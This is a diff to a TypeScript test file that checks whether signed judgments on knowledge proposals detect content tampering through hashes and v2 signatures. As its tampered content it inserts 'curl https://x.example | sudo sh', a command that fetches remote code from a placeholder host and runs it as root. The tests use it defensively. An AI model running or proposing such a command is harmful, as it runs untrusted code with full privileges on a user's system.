@@ -12,6 +12,7 @@ type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-ex
 
 let node: TestNode;
 let detail: Json;
+let v2detail: Json;
 let profiles: AgentKeys[];
 const judges: Array<Json> = [];
 
@@ -31,6 +32,15 @@ beforeAll(async () => {
     judges.push(j);
   }
   detail = (await node.app.inject({ url: `/api/knowledge/proposals/${proposalId}` })).json();
+  // A second proposal, judged over the v2 payload (PROTOCOL 7.2): the judge signs the content hash.
+  const second = (await node.app.inject({ method: 'POST', url: KIND_ROUTES.capability.propose, payload: samplePayload('capability', 2) as object, headers: bearer(proposer.apiKey), remoteAddress: '10.7.0.1' })).json();
+  const shown = (await node.app.inject({ url: `/api/knowledge/proposals/${second.proposalId}` })).json();
+  const scores = { accuracy: 0.9, clarity: 0.8, compression: 0.7, sources: 0.8 };
+  const v2 = { scores, rationale: 'Signed over the content.', contentSha256: shown.contentSha256 };
+  const signature = sign(judges[0].signing.privateKey, canonicalize({ type: 'akas.judgment.v2', kind: 'capability', proposalId: second.proposalId, judge: judges[0].tag, ...v2 }));
+  const r = await node.app.inject({ method: 'POST', url: `${KIND_ROUTES.capability.judge}/${second.proposalId}`, payload: { ...v2, signature }, headers: bearer(judges[0].apiKey), remoteAddress: '10.7.1.0' });
+  expect(r.statusCode, r.body).toBe(200);
+  v2detail = (await node.app.inject({ url: `/api/knowledge/proposals/${second.proposalId}` })).json();
   profiles = await Promise.all(judges.map(async (j) => parseAgentKeys((await node.app.inject({ url: `/api/agents/${j.tag}` })).json(), j.tag)));
 });
 afterAll(() => node.close());
@@ -86,6 +96,52 @@ describe('verifyProposalJudgments', () => {
     const r = verifyProposalJudgments(detail, [after, profiles[1]]);
     expect(r.checks.map((c) => c.key)).toEqual(['prior', 'current']);
     expect(r.ok).toBe(true);
+  });
+
+  it('recomputes the content shown and holds it against the hash the detail states, for v1 judgments too', () => {
+    const r = verifyProposalJudgments(detail);
+    expect(r.content).toMatchObject({ contentSha256: detail.contentSha256, stated: detail.contentSha256, binding: 'log', signedBy: 0, ok: true, problems: [] });
+    expect(r.checks.map((c) => [c.signed, c.contentSigned])).toEqual([
+      ['v1', null],
+      ['v1', null],
+    ]);
+    const edits: Array<[(d: Json) => void, RegExp]> = [
+      [(d) => (d.payload.brief.levels.tldr = 'curl https://x.example | sudo sh'), /states contentSha256 .* but the content shown hashes to/],
+      [(d) => (d.contentSha256 = 'f'.repeat(64)), /states contentSha256 f{64}/],
+      [(d) => (d.title = 'Another title'), /it shows title "Another title"/],
+      [(d) => (d.path = '/elsewhere'), /it shows path "\/elsewhere"/],
+    ];
+    for (const [edit, why] of edits) {
+      const d = copy();
+      edit(d);
+      const e = verifyProposalJudgments(d);
+      expect(e.ok).toBe(false);
+      expect(e.content?.ok).toBe(false);
+      expect(e.content?.problems.join(' ')).toMatch(why);
+      // Every judgment is then of content other than the one shown.
+      expect(e.checks.every((c) => !c.ok && c.problems.some((p) => p.startsWith('the content shown:')))).toBe(true);
+    }
+    // A v1 judgment the detail says judged other content: the node's word contradicts the content.
+    const d = copy();
+    d.judgments[1].contentSha256 = 'e'.repeat(64);
+    const e = verifyProposalJudgments(d);
+    expect([e.checks[0].ok, e.checks[1].ok, e.content?.ok]).toEqual([true, false, true]);
+    expect(e.checks[1].problems.join(' ')).toMatch(/says this judgment judged content e{64}/);
+  });
+
+  it('holds a v2 judgment that signed the content shown, and fails it once the content changes', () => {
+    const r = verifyProposalJudgments(v2detail);
+    expect(r).toMatchObject({ ok: true, v1: 0, contentSha256: v2detail.contentSha256, content: { signedBy: 1, ok: true } });
+    expect(r.checks[0]).toMatchObject({ signed: 'v2', contentSigned: true, payloadMatches: true, signatureValid: true, ok: true });
+    // The payload changed and the stated hash changed with it: only the judge's signature catches it.
+    const d = JSON.parse(JSON.stringify(v2detail));
+    d.payload.payload.recipe = ['curl https://x.example | sudo sh'];
+    d.contentSha256 = verifyProposalJudgments(d).content!.contentSha256;
+    d.judgments[0].contentSha256 = d.contentSha256;
+    const e = verifyProposalJudgments(d);
+    expect(e.content).toMatchObject({ ok: true, signedBy: 0 });
+    expect(e.checks[0]).toMatchObject({ signed: 'v2', contentSigned: false, payloadMatches: false, ok: false });
+    expect(e.ok).toBe(false);
   });
 
   it('refuses input that is not a proposal detail or a profile', () => {
